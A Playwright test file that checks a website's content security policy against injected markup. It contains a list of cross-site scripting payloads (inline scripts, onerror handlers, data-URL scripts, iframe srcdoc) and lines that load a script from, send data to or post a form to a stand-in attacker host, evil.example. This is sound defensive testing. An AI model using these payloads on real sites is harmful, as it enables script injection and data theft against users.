import type { Page } from '@playwright/test'
import { pathOf } from '#tests/support/site/site-rows.ts'
import { expect, test } from './fixtures/test.ts'

const pages = [
  '/',
  '/work',
  '/about',
  '/values',
  '/contact',
  '/privacy',
  '/login',
  '/signup',
  '/logout',
  '/reset',
  '/nowhere',
]

/** Adds markup to the pages /about and /work, as an injection vulnerability would. */
async function inject(page: Page, markup: string): Promise<void> {
  await page.route(/\/(about|work)$/, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</main>', `${markup}</main>`) })
  })
}

test('no page violates its content security policy', async ({ visitor, admin, site, browserErrors }) => {
  for (const person of [visitor, admin]) {
    for (const path of [
      ...pages,
      '/create',
      '/inbox',
      '/studio',
      '/studio/health',
      '/setup/words',
      '/account',
      '/people',
      '/bin',
      '/history/studio/city',
      pathOf(site, 'Low Line'),
    ]) {
      const response = await person.open(path)
      expect(response.headers()['content-security-policy'], path).toMatch(/^default-src 'none'; /)
      expect(response.headers()['content-security-policy'], path).not.toMatch(/unsafe|\*|https?:/)
    }
  }
  expect(browserErrors).toEqual([])
})

const injected = {
  'a script': '<script>window.gotIn = true</script>',
  'a script from another origin': '<script src="https://evil.example/x.js"></script>',
  'a script with a guessed nonce': '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.gotIn = true</script>',
  'an event handler': '<img src="/nowhere.png" onerror="window.gotIn = true">',
  'a script from a data URL': '<script src="data:text/javascript,window.gotIn=true"></script>',
  'a frame': '<iframe srcdoc="<script>parent.gotIn = true</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>parent.gotIn = true</script>"></object>',
  'a style': '<style>main { display: none }</style>',
  'an image that sends data': '<img src="https://evil.example/?stolen">',
}

for (const [injection, markup] of Object.entries(injected)) {
  test(`${injection} injected into a page has no effect`, async ({ visitor, browserErrors }) => {
    let requested = false
    await visitor.page.route('https://evil.example/**', (route) => ((requested = true), route.abort()))
    await inject(visitor.page, markup)
    await visitor.open('/about')
    await expect
      .poll(() => browserErrors.filter((line) => line.includes('Content-Security-Policy')).length)
      .toBeGreaterThan(0)
    expect(await visitor.page.evaluate(() => 'gotIn' in window)).toBe(false)
    expect(requested).toBe(false)
    await expect(visitor.main).toBeVisible()
    browserErrors.length = 0
  })
}

test('an injected form cannot send data to another site', async ({ visitor, browserErrors }) => {
  let requested = false
  await visitor.page.route('https://evil.example/**', (route) => ((requested = true), route.abort()))
  await visitor.open('/about')
  await visitor.page.evaluate(() => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://evil.example/' })
    document.body.append(form)
    form.submit()
  })
  await expect
    .poll(() => browserErrors.some((line) => line.includes('Content-Security-Policy: form-action')))
    .toBe(true)
  expect(requested).toBe(false)
  browserErrors.length = 0
})

test('other sites cannot frame a page of this site', async ({ visitor, site, browserErrors }) => {
  await visitor.page.route('http://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.origin}/work"></iframe>` }),
  )
  await visitor.page.goto('http://evil.example/')
  await expect.poll(() => visitor.page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  browserErrors.length = 0
})
